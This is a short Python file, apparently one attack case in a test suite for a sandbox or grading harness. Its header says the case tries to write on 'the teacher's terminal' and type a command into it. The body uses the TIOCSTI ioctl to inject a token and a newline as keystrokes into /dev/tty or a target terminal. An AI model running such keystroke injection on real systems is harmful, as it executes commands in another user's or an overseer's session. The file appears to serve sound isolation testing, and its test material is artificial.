# /// attack
# tries = "Writes on the teacher's terminal and types a command into it."
# points = 0
# shows = ["typed"]
# ///
# %% before count
import fcntl
import os
import termios

for path in ("/dev/tty", bait["terminal"]):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    for letter in bait["token"] + "\n":
        try:
            fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
        except OSError:
            break
    os.write(terminal, bait["token"].encode())
